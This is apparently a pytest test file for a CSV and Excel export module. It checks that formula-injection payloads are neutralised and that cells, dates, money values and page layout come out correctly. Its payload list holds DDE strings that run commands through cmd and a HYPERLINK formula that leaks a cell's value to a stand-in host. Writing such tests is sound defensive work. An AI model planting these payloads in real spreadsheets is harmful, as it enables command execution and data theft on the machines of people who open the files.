"""Tables out: what a cell holds, what a printed page looks like, what no text may become."""

import csv
import io
import tracemalloc
from datetime import UTC, date, datetime

import openpyxl
import pytest
import python_calamine
from hypothesis import given
from hypothesis import strategies as st

from wuyou.platform.exports.commas import csv_chunks
from wuyou.platform.exports.guard import guarded, is_dangerous, printable, unguarded
from wuyou.platform.exports.tables import Export, ExportColumn, Kind, Watermark, shown
from wuyou.platform.exports.workbook import TEXT_LIMIT, fitting, sheet_name, write_xlsx

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"点此")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u3000=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "\u3000＝1+1",
    "﹦1+1",
    "−1+1",
    "'=1+1",
    "\x00=1+1",
    '="甲"\n=1+1',
]
HARMLESS = [
    "",
    "张三",
    "1+1",
    "a=b",
    "甲-乙",
    "'甲",
    "''",
    "·",
    "——",
    "〔2025〕1号",
    "0874-3123456",
    "（=）",
    "~",
    "!A1",
    "#REF!",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_payload_is_guarded(text):
    text = printable(text)
    assert guarded(text) == "'" + text
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_alone(text):
    assert guarded(text) == text
    assert unguarded(text) == text


@given(st.text(alphabet="'=+-@＝＋－＠\t\r\n \u3000\ufeff甲1", max_size=12) | st.text())
def test_guarding_can_always_be_taken_back_and_leaves_nothing_dangerous(text):
    assert unguarded(guarded(text)) == text
    assert not is_dangerous(guarded(text))


COLUMNS = (
    ExportColumn("姓名"),
    ExportColumn("身份证号"),
    ExportColumn("人数", Kind.WHOLE),
    ExportColumn("金额（元）", Kind.MONEY),
    ExportColumn("日期", Kind.DAY),
    ExportColumn("登记时间", Kind.MOMENT),
    ExportColumn("共用", Kind.YES_NO),
)
ROWS = [
    ("张三", "530399199001010015", 12, 1234567, date(2025, 3, 1), datetime(2025, 3, 1, 1, 5, tzinfo=UTC), True),
    ("李四", "0874", 0, -5, date(1898, 5, 4), None, False),
    (None, None, None, None, None, None, None),
    ("王五", "001", "约20", "不详", "2025年3月", "上午", None),
]
WATERMARK = Watermark("某市联合会", "张三", datetime(2025, 12, 31, 1, 30, tzinfo=UTC), "年终核对", "D-17")


def as_csv(columns=COLUMNS, rows=ROWS, watermark=None) -> list[list[str]]:
    data = b"".join(csv_chunks(columns, rows, watermark))
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def as_sheets(columns=COLUMNS, rows=ROWS, watermark=None, **options) -> openpyxl.Workbook:
    target = io.BytesIO()
    assert write_xlsx(target, "名册", columns, rows, watermark, **options) == len(list(rows))
    return openpyxl.load_workbook(target)


def test_csv_shows_each_kind():
    assert as_csv() == [
        ["姓名", "身份证号", "人数", "金额（元）", "日期", "登记时间", "共用"],
        ["张三", "530399199001010015", "12", "12345.67", "2025-03-01", "2025-03-01 09:05", "是"],
        ["李四", "0874", "0", "-0.05", "1898-05-04", "", "否"],
        ["", "", "", "", "", "", ""],
        ["王五", "001", "约20", "不详", "2025年3月", "上午", ""],
    ]


def test_csv_lines_end_as_excel_wants_and_breaks_within_a_cell_stay():
    data = b"".join(csv_chunks((ExportColumn("甲"), ExportColumn("乙")), [('说"好"', "一\n二")]))
    assert data.decode("utf-8-sig") == '"甲","乙"\r\n"说""好""","一\n二"\r\n'


def test_csv_begins_with_the_watermark_where_there_is_one():
    assert as_csv(rows=[], watermark=WATERMARK)[0] == [
        "某市联合会　张三　2025-12-31 09:30 导出　用途：年终核对　编号：D-17"
    ]


def test_csv_guards_texts_and_heads_but_not_numbers():
    columns = (
        ExportColumn("=甲"),
        ExportColumn("数", Kind.WHOLE),
        ExportColumn("元", Kind.MONEY),
        ExportColumn("-日", Kind.DAY),
    )
    assert as_csv(columns, [("=1", -3, -500, "-1"), ("+86", "-3", "=9", None)]) == [
        ["'=甲", "数", "元", "'-日"],
        ["'=1", "-3", "-5.00", "'-1"],
        ["'+86", "'-3", "'=9", ""],
    ]


@pytest.mark.parametrize("write", [as_csv, as_sheets])
def test_row_of_the_wrong_length_is_a_fault_not_a_shifted_table(write):
    with pytest.raises(ValueError, match="zip"):
        write(rows=[("张三", "1")])


def test_table_that_breaks_off_leaves_no_file(tmp_path):
    def rows():
        yield ("张三",)
        raise OSError("gone")

    with pytest.raises(OSError, match="gone"):
        write_xlsx(tmp_path / "table.xlsx", "名册", (ExportColumn("姓名"),), rows())
    assert list(tmp_path.iterdir()) == []


def test_workbook_types_each_kind():
    sheet = as_sheets().active
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["姓名", "身份证号", "人数", "金额（元）", "日期", "登记时间", "共用"],
        ["张三", "530399199001010015", 12, 12345.67, datetime(2025, 3, 1), datetime(2025, 3, 1, 9, 5), "是"],  # noqa: DTZ001 -- a sheet knows no zone
        ["李四", "0874", 0, -0.05, "1898-05-04", None, "否"],
        [None] * 7,
        ["王五", "001", "约20", "不详", "2025年3月", "上午", None],
    ]
    assert [cell.number_format for cell in sheet[2]] == [
        "@", "@", "0", "#,##0.00", "yyyy-mm-dd", "yyyy-mm-dd hh:mm", "@",
    ]  # fmt: skip


def test_workbook_is_set_up_for_reading_and_printing():
    book = as_sheets(watermark=WATERMARK)
    sheet = book.active
    assert sheet.title == "名册"
    assert sheet["A1"].value == WATERMARK.line()
    assert sheet.freeze_panes == "A3"
    assert sheet.print_title_rows == "$1:$2"
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
    assert (sheet.page_setup.fitToWidth or 1, sheet.page_setup.fitToHeight) == (1, 0)
    assert sheet.oddFooter.center.text == "第 &P 页，共 &N 页"
    assert sheet.auto_filter.ref == "A2:G6"
    assert book.properties.creator == "某市联合会"


def test_columns_are_as_wide_as_their_chinese_content_up_to_a_limit():
    columns = (ExportColumn("甲"), ExportColumn("乙"), ExportColumn("丙", width=9), ExportColumn("丁", Kind.DAY))
    sheet = as_sheets(
        columns, [("一二三四五六七八", "长" * 90, "长" * 90, date(2025, 1, 1)), ("ab", "", "", None)]
    ).active
    assert [round(sheet.column_dimensions[name].width) for name in "ABCD"] == [18, 49, 10, 12]


@pytest.mark.parametrize("text", PAYLOADS)
def test_workbook_keeps_a_payload_as_text_marked_as_quoted(text):
    sheet = as_sheets((ExportColumn("甲"),), [(text,)]).active
    cell = sheet["A2"]
    assert cell.data_type in {"s", "inlineStr"}
    assert cell.value == printable(text).replace("\r", "\n")
    assert cell.quotePrefix is is_dangerous(printable(text))


def test_text_that_looks_like_an_escape_stays_as_it_is():
    target = io.BytesIO()
    write_xlsx(target, "名册", (ExportColumn("甲"),), [("_x000D_\x0b甲\ud800",)])
    target.seek(0)
    assert python_calamine.load_workbook(target).get_sheet_by_index(0).to_python() == [["甲"], ["_x000D_甲"]]


def test_workbook_goes_on_on_further_sheets():
    book = as_sheets((ExportColumn("号", Kind.WHOLE),), [(n,) for n in range(5)], rows_a_sheet=2)
    assert book.sheetnames == ["名册", "名册（2）", "名册（3）"]
    assert [[row[0].value for row in sheet.iter_rows()] for sheet in book] == [["号", 0, 1], ["号", 2, 3], ["号", 4]]


SHEET_NAMES = [
    ("名册", 1, "名册"),
    ("名册", 2, "名册（2）"),
    ("a[b]c:d*e?f/g\\h", 1, "abcdefgh"),
    ("'名册'", 1, "名册"),
    ("", 1, "Sheet"),
    ("长" * 40, 1, "长" * 31),
    ("长" * 40, 12, "长" * 27 + "（12）"),
]


@pytest.mark.parametrize(("label", "number", "name"), SHEET_NAMES)
def test_sheet_name_is_one_that_excel_takes(label, number, name):
    assert sheet_name(label, number) == name


@pytest.mark.parametrize("sign", ["长", "𠮷"])
def test_text_too_long_for_a_cell_is_cut_and_says_so(sign):
    assert fitting(sign * 15000) == sign * 15000
    cut = fitting(sign * 40000)
    assert cut.endswith("（文字过长，后文未列出，请在系统中查看）")
    assert TEXT_LIMIT - 2 <= len(cut.encode("utf-16-le")) // 2 <= TEXT_LIMIT


SHOWN = [
    (5, Kind.MONEY, "0.05"),
    (-123, Kind.MONEY, "-1.23"),
    (100, Kind.MONEY, "1.00"),
    (10**17 + 1, Kind.MONEY, "1000000000000000.01"),
    ("约5万", Kind.MONEY, "约5万"),
    (True, Kind.YES_NO, "是"),
    (13812345678, Kind.TEXT, "13812345678"),
    (None, Kind.TEXT, ""),
]


@pytest.mark.parametrize(("value", "kind", "text"), SHOWN)
def test_shown(value, kind, text):
    assert shown(value, kind) == text


def test_export_is_announced_with_what_guards_it():
    export = Export("t.rows", "名册", COLUMNS, rows=lambda actor: iter(ROWS), needs="t.view", personal=True)
    assert list(export.rows(None)) == ROWS


def peak_memory(rows: int, tmp_path) -> int:
    columns = tuple(ExportColumn(f"第{n}栏") for n in range(8))
    tracemalloc.start()
    write_xlsx(tmp_path / "many.xlsx", "名册", columns, ((f"{n}号内容",) * 8 for n in range(rows)), WATERMARK)
    for _ in csv_chunks(columns, ((f"{n}号内容",) * 8 for n in range(rows)), WATERMARK):
        pass
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return peak


def test_memory_does_not_grow_with_the_rows(tmp_path):
    few, many = peak_memory(1100, tmp_path), peak_memory(2200, tmp_path)
    assert many - few < 300_000
